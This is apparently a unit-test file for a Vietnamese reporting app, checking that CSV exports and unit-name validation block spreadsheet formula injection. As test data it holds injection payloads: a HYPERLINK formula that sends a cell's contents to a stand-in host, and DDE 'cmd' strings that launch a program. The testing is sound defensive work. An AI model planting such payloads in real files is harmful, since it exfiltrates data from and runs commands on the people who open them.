// Formula injection (issue 16 item 5): a text cell starting with = + - @ tab or CR is run by a spreadsheet that
// opens the CSV. Every CSV the app writes goes through app/ui/csv.ts, which neutralises such cells; unit names
// (the text of the report CSV that users choose) are refused with such a start on the tree forms and tree import.
import { expect, test } from 'vitest'
import { parseTreeSheets } from '#app/org/tree-import.server.ts'
import { UnitCreateSchema, UnitEditSchema } from '#app/org/schema.ts'
import { buildReport, isReport, parseReportPeriod, type Report, reportCsv } from '#app/reports/report.server.ts'
import { takeMonthSnapshot } from '#app/reports/snapshots.server.ts'
import { csvCell, csvLine } from '#app/ui/csv.ts'
import { translator } from '#app/ui/i18n.server.ts'
import { assign, createCourse, join } from '#tests/factories/learning.ts'
import { createUnit, createUser } from '#tests/factories/org.ts'
import { useTestDb } from '#tests/setup/db.ts'

useTestDb()

const PAYLOADS = {
	'=': '=HYPERLINK("http://x/?"&A1,"Phòng")',
	'+': "+cmd|' /C calc'!A0",
	'-': '-2+3+cmd|\' /C calc\'!A0',
	'@': '@SUM(1+1)*cmd|\' /C calc\'!A0',
	tab: '\t=1+1',
	CR: '\r=1+1',
} as const

/** The cells of one CSV line (RFC 4180 quoting). */
function cells(line: string) {
	const out: Array<string> = []
	const re = /("(?:[^"]|"")*"|[^,]*)(,|$)/gy
	let m: RegExpExecArray | null
	while ((m = re.exec(line)) && m[0] !== '') {
		out.push(m[1]!.startsWith('"') ? m[1]!.slice(1, -1).replace(/""/g, '"') : m[1]!)
		if (m[2] === '') break
	}
	return out
}

test('csvCell: each formula start gets an apostrophe, quoting still holds, numbers and plain text are unchanged', () => {
	for (const [prefix, text] of Object.entries(PAYLOADS)) {
		const written = csvCell(text)
		expect([prefix, cells(written)[0]!.startsWith("'")]).toEqual([prefix, true])
		expect(cells(written)[0]).toBe(`'${text}`)
	}
	expect(csvCell(-5)).toBe('-5')
	expect(csvCell(12.5)).toBe('12.5')
	expect(csvCell(null)).toBe('')
	expect(csvCell('Sở Tài chính')).toBe('Sở Tài chính')
	expect(csvCell('Phòng "A", tầng 2')).toBe('"Phòng ""A"", tầng 2"')
	expect(csvLine(['a=b', 'x@y', 1])).toBe('a=b,x@y,1')
})

test('the report CSV neutralises unit names that start like a formula (units already in the database)', async () => {
	const root = await createUnit('Tỉnh CSV')
	const units = []
	for (const text of Object.values(PAYLOADS)) units.push(await createUnit(text, root))
	const course = await createCourse('csv-cong-thuc')
	await assign(course, root, { dueAt: new Date('2026-02-28T00:00:00Z') })
	for (const unit of units) await join(await createUser({ password: null }), unit)
	await takeMonthSnapshot('2026-03')
	const built = await buildReport(root.id, parseReportPeriod('2026-03..2026-03')!, { id: course.id, title: 'CSV' })
	expect(built && isReport(built)).toBe(true)
	const lines = reportCsv(built as Report).split('\r\n')
	const names = lines.slice(1).map((line) => cells(line)[2])
	for (const [prefix, text] of Object.entries(PAYLOADS)) expect([prefix, names.includes(`'${text}`)]).toEqual([prefix, true])
	// No cell of the file starts like a formula.
	for (const line of lines.slice(1)) for (const cell of cells(line)) expect(cell).not.toMatch(/^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/)
})

test('unit names starting like a formula are refused with a Vietnamese message on the create and rename forms', () => {
	const t = translator('vi')
	for (const [prefix, text] of Object.entries(PAYLOADS)) {
		const created = UnitCreateSchema.safeParse({ intent: 'create', parentId: '1', code: 'P1', name: text, kind: 'division', validFrom: '' })
		expect([prefix, created.success]).toEqual([prefix, false])
		expect(created.error!.issues.map((i) => i.message)).toContain('tree.error.nameFormula')
		const renamed = UnitEditSchema.safeParse({ intent: 'rename', name: text, at: '' })
		expect(renamed.error!.issues.map((i) => i.message)).toContain('tree.error.nameFormula')
	}
	expect(t('tree.error.nameFormula')).toMatch(/không được bắt đầu bằng dấu =, \+, -, @/)
	expect(UnitEditSchema.safeParse({ intent: 'rename', name: 'Phòng Kế hoạch - Tài chính', at: '2026-01-15' }).error?.issues).toBeUndefined()
})

test('the tree import refuses such names row by row, naming the row', () => {
	const text = (s: string) => ({ kind: 'text' as const, text: s })
	const rows = [
		{ row: 1, cells: ['Mã đơn vị', 'Tên đơn vị', 'Mã đơn vị cấp trên', 'Loại'].map(text) },
		...Object.values(PAYLOADS).map((name, i) => ({ row: i + 2, cells: [text(`P${i}`), text(name), text('ROOT'), text('Phòng')] })),
		{ row: 20, cells: [text('P99'), text('Phòng Tổng hợp'), text('ROOT'), text('Phòng')] },
	]
	const parsed = parseTreeSheets([{ format: 'csv', rows, merges: [] }], 'GOV')
	expect(parsed.ok).toBe(true)
	if (!parsed.ok) return
	expect(parsed.errors.filter((e) => e.key === 'tree.error.nameFormula').map((e) => e.row)).toEqual([2, 3, 4, 5, 6, 7])
	expect(parsed.rows.map((r) => r.code)).toEqual(['P99'])
})
